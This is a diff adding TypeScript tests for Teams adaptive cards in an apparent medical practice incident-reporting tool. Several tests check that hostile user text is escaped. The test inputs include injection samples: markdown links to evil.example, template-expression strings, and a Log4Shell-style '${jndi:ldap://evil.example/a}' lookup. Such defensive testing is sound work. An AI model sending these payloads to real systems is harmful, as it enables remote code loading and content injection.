+    const sectionOf: Record<string, string> = {
+      reason: 'decide-noResponse',
+      replyText: 'decide-reply',
+      reporterPostsReply: 'decide-reply',
+      actions: 'decide-actions',
+      assignee: 'decide-assign',
+      question: 'decide-ask',
+    };
+    const titleOf: Record<string, string> = {
+      'decide-noResponse': 'No response',
+      'decide-reply': 'Public reply',
+      'decide-actions': 'Choose actions',
+      'decide-assign': 'Assign',
+      'decide-ask': 'Ask the reporter',
+    };
+
+    it.each(Object.keys(sectionOf))('%s', (id) => {
+      const message = `Problem with ${id}: [fix](http://evil.example)`;
+      const card = incidentCard(routed(), options({ errors: { [id]: message } }));
+      expect(problems(card)).toEqual([]);
+      const open = section(card, sectionOf[id]!);
+      expect(open).toBeDefined();
+      expect(texts(open!)[0]).toBe(titleOf[sectionOf[id]!]);
+      expect(showCard(card, titleOf[sectionOf[id]!]!)).toBeUndefined();
+      expect(showCards(card)).toHaveLength(4);
+      const input = inputById(card, id)!;
+      const { list, index } = siblings(card, input);
+      expect(list).toBe(open!.items);
+      expect(list[index + 1]).toMatchObject({ type: 'TextBlock', text: plainText(message), color: 'Attention', wrap: true });
+      expect(texts(body(card)[0]!)).toEqual(['Please fix the highlighted answer below.']);
+      // The section keeps its own buttons.
+      expect(verbsIn(open!).length).toBeGreaterThan(0);
+    });
+
+    it('errors on every input: every section open, no collapsed ones left', () => {
+      const card = incidentCard(routed(), options({ errors: ALL_ERRORS }));
+      expect(problems(card, { userText: USER_TEXT })).toEqual([]);
+      expect(showCards(card)).toEqual([]);
+      for (const id of Object.values(sectionOf)) expect(section(card, id)).toBeDefined();
+      // "answer" is not an input of the incident card: it is told at the top.
+      expect(texts(body(card)[0]!)).toEqual(['Please fix the highlighted answers below.', plainText(ALL_ERRORS.answer)]);
+    });
+
+    it('an error for an input the card does not show goes to the top, and nothing opens', () => {
+      const card = incidentCard(routed(), options({ assignees: [], errors: { assignee: 'Choose the deputy.' } }));
+      expect(texts(body(card)[0]!)).toEqual(['Please check this:', 'Choose the deputy.']);
+      expect(showCards(card)).toHaveLength(4);
+    });
+
+    it('no errors: no summary, nothing open', () => {
+      const card = incidentCard(routed(), options({ errors: {} }));
+      expect(all(card)).not.toContain('Please fix');
+      expect(showCards(card)).toHaveLength(5);
+      expect(textBlocks(card).filter((t) => t.color === 'Attention')).toEqual([]);
+    });
+  });
+
+  describe('reply-guard findings', () => {
+    const reply = 'Thank you. Our patient [Dr Patel](http://evil.example) can call 01709 123456. YOU ARE WRONG.';
+    const findings: Finding[] = [
+      { rule: 'argumentative', severity: 'advisory', message: '"YOU ARE WRONG" reads as shouting.', start: reply.indexOf('YOU'), end: reply.indexOf('YOU') + 13 },
+      { rule: 'confirms-patient-relationship', severity: 'blocking', message: '"Our patient" confirms that the person is a patient.', start: reply.indexOf('Our'), end: reply.indexOf('Our') + 11 },
+      { rule: 'staff-name', severity: 'blocking', message: '"[Dr Patel](http://evil.example)" names a member of staff.', start: reply.indexOf('[Dr'), end: reply.indexOf('[Dr') + 31 },
+    ];
+
+    it('blocking: the reply section opens, findings right beneath the box, blocking first in attention colour, quoted and escaped', () => {
+      const card = incidentCard(routed(), options({ replyText: reply, replyFindings: findings }));
+      expect(problems(card, { userText: [reply] })).toEqual([]);
+      const open = section(card, 'decide-reply')!;
+      expect(open).toBeDefined();
+      expect(showCard(card, 'Public reply')).toBeUndefined();
+      const items = open.items as Json[];
+      const box = items.indexOf(inputById(card, INCIDENT_INPUTS.replyText)!);
+      const toggle = items.indexOf(inputById(card, INCIDENT_INPUTS.reporterPostsReply)!);
+      const between = items.slice(box + 1, toggle);
+      expect(texts({ body: between })).toEqual([
+        'The reply check found 2 problems to fix before it can be approved.',
+        'Must change: "Our patient"',
+        plainText('"Our patient" confirms that the person is a patient.'),
+        'Must change: "\\[Dr Patel\\](http://evil.example)"',
+        plainText('"[Dr Patel](http://evil.example)" names a member of staff.'),
+        'Check: "YOU ARE WRONG"',
+        plainText('"YOU ARE WRONG" reads as shouting.'),
+      ]);
+      const colours = textBlocks({ body: between }).map((t) => t.color);
+      expect(colours).toEqual(['Attention', 'Attention', 'Attention', 'Attention', 'Attention', 'Warning', 'Warning']);
+      expect(liveMarkdown(all(card))).toEqual([]);
+    });
+
+    it('advisory only: the section stays collapsed, with the findings inside it as warnings', () => {
+      const advisory = findings.filter((f) => f.severity === 'advisory');
+      const card = incidentCard(routed(), options({ replyText: reply, replyFindings: advisory }));
+      expect(section(card, 'decide-reply')).toBeUndefined();
+      const sub = showCard(card, 'Public reply')!.card as Json;
+      expect(textBlocks(sub).find((t) => t.text === 'Check: "YOU ARE WRONG"')).toMatchObject({ color: 'Warning' });
+      expect(texts(sub)).toContain('The reply check found 1 thing to consider.');
+    });
+
+    it('no findings: says so', () => {
+      const sub = showCard(incidentCard(routed(), options()), 'Public reply')!.card as Json;
+      expect(textBlocks(sub).find((t) => t.text === 'The reply check found nothing to change.')).toMatchObject({ color: 'Good' });
+    });
+
+    it('many findings: the first are listed, blocking first, the rest counted', () => {
+      const card = incidentCard(routed(), options({ replyText: HOSTILE_REPLY, replyFindings: hostileFindings(HOSTILE_REPLY) }));
+      const quotes = texts(card).filter((t) => t.startsWith('Must change:') || t.startsWith('Check:'));
+      expect(quotes).toHaveLength(8);
+      expect(quotes.slice(0, 3).every((q) => q.startsWith('Must change:'))).toBe(true);
+      expect(texts(card)).toContain('And 2 more findings: press Check reply after changing the text.');
+    });
+  });
+});
+
+// ---- read-only ------------------------------------------------------------------------------------
+
+describe('incident card read-only view', () => {
+  it('everything but the decision: the post is shown, no inputs, no decision actions', () => {
+    const decider = incidentCard(routed(), options());
+    const readonly = incidentCard(routed(), options({ view: 'readonly' }));
+    expect(inputs(readonly)).toEqual([]);
+    expect(executes(readonly).map((a) => a.verb)).toEqual([INCIDENT_VERBS.refresh]);
+    expect(readonly.actions).toEqual([]);
+    expect(texts(readonly)).toContain(plainText(FACTS.what.postText));
+    expect(texts(readonly)).not.toContain('Your decision');
+    // The same information as the decider sees, minus the decision area.
+    const shared = (c: Json) => texts({ body: body(c) }).filter((t) => t !== 'Your decision' && !t.startsWith('Open one of the options'));
+    expect(shared(readonly)).toEqual(shared(decider));
+  });
+
+  it('the reply draft and its findings are not shown', () => {
+    const card = incidentCard(routed(), options({ view: 'readonly', replyText: 'Secret draft', replyFindings: hostileFindings('Secret draft') }));
+    expect(JSON.stringify(card)).not.toContain('Secret draft');
+    expect(all(card)).not.toContain('Must change');
+  });
+
+  it('errors meant for decision inputs are not placed on it as fields', () => {
+    const card = incidentCard(routed(), options({ view: 'readonly', errors: { reason: 'Say why.' } }));
+    expect(inputs(card)).toEqual([]);
+    expect(texts(body(card)[0]!)).toEqual(['Please check this:', 'Say why.']);
+  });
+});
+
+// ---- refresh --------------------------------------------------------------------------------------
+
+describe('incident card refresh', () => {
+  it.each(['decider', 'readonly'] as const)('%s view: refresh to the given Teams user ids', (view) => {
+    const card = incidentCard(routed(), options({ view, refreshUserIds: ['29:abc'] }));
+    expect((card.refresh as Json).userIds).toEqual(['29:abc']);
+    expect(((card.refresh as Json).action as Json).verb).toBe(INCIDENT_VERBS.refresh);
+  });
+
+  it('[] is kept as [] (no automatic refresh), not dropped', () => {
+    const card = incidentCard(routed(), options({ refreshUserIds: [] }));
+    expect(card.refresh).toHaveProperty('userIds', []);
+  });
+
+  it('duplicates are removed and the list is cut to the 60 Teams allows', () => {
+    const ids = Array.from({ length: 70 }, (_, i) => `29:${i}`);
+    const card = incidentCard(routed(), options({ refreshUserIds: ['29:0', ...ids] }));
+    expect((card.refresh as Json).userIds).toEqual(ids.slice(0, 60));
+    expect(problems(card)).toEqual([]);
+  });
+});
+
+// ---- hostile text ---------------------------------------------------------------------------------
+
+describe('incident card: user text is data', () => {
+  /** Hostile text in every field, small enough that nothing is shortened, and the same incident with plain text. */
+  function pair(view: IncidentCardOptions['view']): [Json, Json] {
+    const make = (t: (s: string) => string) => {
+      const facts: ReportFacts = {
+        where: { ...FACTS.where, postUrl: t(`https://evil.example/[x](http://evil.example)`), authorName: t(HOSTILE_SHORT) },
+        what: { ...FACTS.what, postText: t(HOSTILE), namedColleagues: t(HOSTILE_SHORT) },
+        risk: { atRisk: true, riskDetails: t(HOSTILE) },
+        evidence: { screenshots: [0, 1, 2].map((i) => ({ ...SCREENSHOT, fileName: t(`[shot ${i}](http://evil.example) \${f} <b>.png`) })) },
+      };
+      const questions: QuestionToReporter[] = [
+        { askedBy: { ...MANAGER, name: t(HOSTILE_SHORT) }, askedAt: '2026-11-03T15:00:00Z', question: t(HOSTILE_SHORT), answer: t(HOSTILE), answeredAt: '2026-11-03T15:30:00Z' },
+        { askedBy: MANAGER, askedAt: '2026-11-03T16:00:00Z', question: t(HOSTILE) },
+      ];
+      const reply = t(HOSTILE_REPLY.slice(0, 200));
+      const incident = { ...routed(facts, 2, { questions, assignedTo: { ...DEPUTY, name: t(HOSTILE_SHORT) }, version: 7 }), reporter: { aadObjectId: 'aad-reporter', name: t(HOSTILE_SHORT) } };
+      return incidentCard(
+        incident,
+        options({
+          view,
+          practiceName: t('[Evil](http://evil.example) ${$root.reference}'),
+          assignees: [{ aadObjectId: 'aad-deputy', name: t(HOSTILE_SHORT) }, MANAGER],
+          replyText: reply,
+          replyFindings: [
+            { rule: 'staff-name', severity: 'blocking', message: t(`"[Dr Patel](http://evil.example)" names a member of staff.`), start: reply.indexOf('Our'), end: reply.indexOf('Our') + 43 },
+            { rule: 'argumentative', severity: 'advisory', message: t(HOSTILE_SHORT), start: reply.indexOf('$'), end: reply.indexOf('$') + 10 },
+          ],
+          errors: Object.fromEntries(Object.keys(ALL_ERRORS).map((k) => [k, t(ALL_ERRORS[k]!)])),
+          notice: { tone: 'attention', text: t(HOSTILE_SHORT) },
+        }),
+      );
+    };
+    return [make((x) => x), make((x) => x.replace(/[^\n]/g, 'a'))];
+  }
+
+  it.each(['decider', 'readonly'] as const)('%s: no element or action injected, nothing evaluated, no live markdown', (view) => {
+    const [hostile, benign] = pair(view);
+    expect(problems(hostile, { userText: USER_TEXT })).toEqual([]);
+    expect(all(hostile)).not.toContain('Showing the first'); // nothing shortened: the whole text is compared
+    expect(shape(hostile)).toEqual(shape(benign));
+    const shown = all(hostile);
+    expect(liveMarkdown(shown)).toEqual([]);
+    expect(shown).toContain('${jndi:ldap://evil.example/a}');
+    expect(shown).toContain('${$root.x} ${$root.reference}');
+    expect(shown).not.toContain(`${PRACTICE} PW-2026-0042`);
+    expect(JSON.stringify(hostile)).not.toContain('"Action.OpenUrl","url"');
+    expect(texts(hostile)).toContain(plainText('[Evil](http://evil.example) ${$root.reference}'));
+    expect(texts(hostile)).toContain(plainText(HOSTILE));
+  });
+
+  it.each(['decider', 'readonly'] as const)('%s, worst case: no live markdown, nothing evaluated', (view) => {
+    const card = incidentCard(hostileIncident({ questions: 10, screenshots: 25 }), hostileOptions(view));
+    expect(problems(card, { userText: USER_TEXT })).toEqual([]);
+    expect(liveMarkdown(all(card))).toEqual([]);
+    expect(all(card)).not.toContain(`${PRACTICE} PW-2026-0042`);
+  });
+
+  it('the author, named colleagues, risk details, screenshot names and questions are escaped', () => {
+    const card = incidentCard(hostileIncident({ questions: 1 }), hostileOptions('readonly'));
+    expect(fact(card, 'Author')).toBe(plainText(HOSTILE_SHORT));
+    expect(texts(card).some((t) => t.startsWith(plainText('[shot 0](http://evil.example) ${f} <b>.png — ')))).toBe(true);
+    // Shortened to fit (the worst case), but escaped from its first character.
+    expect(texts(card).some((t) => t.startsWith(plainText((HOSTILE + ' ').slice(0, 100))))).toBe(true);
+    expect(texts(card)).toContain(`Asked by ${plainText(HOSTILE_SHORT)}, 3 Nov 2026, 15:00`);
+  });
+});
+
+// ---- the reporter's cards -------------------------------------------------------------------------
+
+describe('reporter question card', () => {
+  const QUESTION: QuestionToReporter = {
+    askedBy: MANAGER,
+    askedAt: '2026-11-03T15:00:00Z',
+    question: 'Did you see [who](http://evil.example) posted it? ${$root.reference}',
+  };
+
+  it('the question escaped, a required answer box and Send answer with the incident ids', () => {
+    const incident = routed(FACTS, 0, { version: 4 });
+    const card = reporterQuestionCard(incident, QUESTION, { practiceName: PRACTICE });
+    expect(problems(card, { userText: [QUESTION.question] })).toEqual([]);
+    expect(texts(card)).toEqual(expect.arrayContaining(['A question about your report', 'Your report PW-2026-0042', PRACTICE, 'Pat Manager asked, 3 Nov 2026, 15:00:', plainText(QUESTION.question)]));
+    expect(inputs(card)).toEqual([
+      expect.objectContaining({ type: 'Input.Text', id: INCIDENT_INPUTS.answer, isRequired: true, isMultiline: true, maxLength: 2000, label: 'Your answer (required)' }),
+    ]);
+    expect(executes(card).map((a) => [a.title, a.verb, a.data])).toEqual([
+      ['Send answer', INCIDENT_VERBS.answer, { practiceId: 'wickersley', reference: 'PW-2026-0042', version: 4 }],
+    ]);
+  });
+
+  it('an error beneath the answer box, escaped', () => {
+    const card = reporterQuestionCard(routed(), QUESTION, { practiceName: PRACTICE, error: 'Write your answer. [x](http://evil.example)' });
+    expect(problems(card, { userText: [QUESTION.question] })).toEqual([]);
+    const { list, index } = siblings(card, inputById(card, INCIDENT_INPUTS.answer)!);
+    expect(list[index + 1]).toMatchObject({ type: 'TextBlock', text: 'Write your answer. \\[x\\](http://evil.example)', color: 'Attention' });
+  });
+
+  it('once answered: the answer, thanks, and nothing to send', () => {
+    const card = reporterQuestionCard(routed(), { ...QUESTION, answer: '**Jay**', answeredAt: '2026-11-03T15:30:00Z' }, { practiceName: PRACTICE, error: 'ignored' });
+    expect(problems(card, { userText: [QUESTION.question] })).toEqual([]);
+    expect(inputs(card)).toEqual([]);
+    expect(executes(card)).toEqual([]);
+    expect(texts(card)).toEqual(expect.arrayContaining(['Your answer, 3 Nov 2026, 15:30:', '\\*\\*Jay\\*\\*', 'Thank you: your answer was added to the report.']));
+    expect(texts(card)).not.toContain('ignored');
+  });
+});
+
+describe('reporter update card', () => {
+  it('reference, what was decided, thanks; no reply box when there is nothing to post', () => {
+    const card = reporterUpdateCard(routed(), { practiceName: PRACTICE, summary: 'The practice manager decided: **Report** [x](http://evil.example).' });
+    expect(problems(card)).toEqual([]);
+    expect(texts(card)).toEqual(
+      expect.arrayContaining(['Update on your report', 'Your report PW-2026-0042', PRACTICE, 'The practice manager decided: \\*\\*Report\\*\\* \\[x\\](http://evil.example).']),
+    );
+    expect(texts(card).join(' ')).toMatch(/Thank you for reporting this/);
+    expect(inputs(card)).toEqual([]);
+  });
+
+  it('the approved reply, exactly, ready to copy', () => {
+    const reply = 'Thank you for letting us know. ${$root.reference} [x](http://evil.example)';
+    const card = reporterUpdateCard(routed(), { practiceName: PRACTICE, summary: 'The practice manager approved a brief public reply.', replyToPost: reply });
+    expect(problems(card, { userText: [reply] })).toEqual([]);
+    expect(texts(card)).toContain('Please post this reply');
+    expect(inputs(card)).toEqual([expect.objectContaining({ type: 'Input.Text', value: reply, isMultiline: true })]);
+    expect(executes(card).map((a) => a.associatedInputs)).toEqual(['none']);
+  });
+});
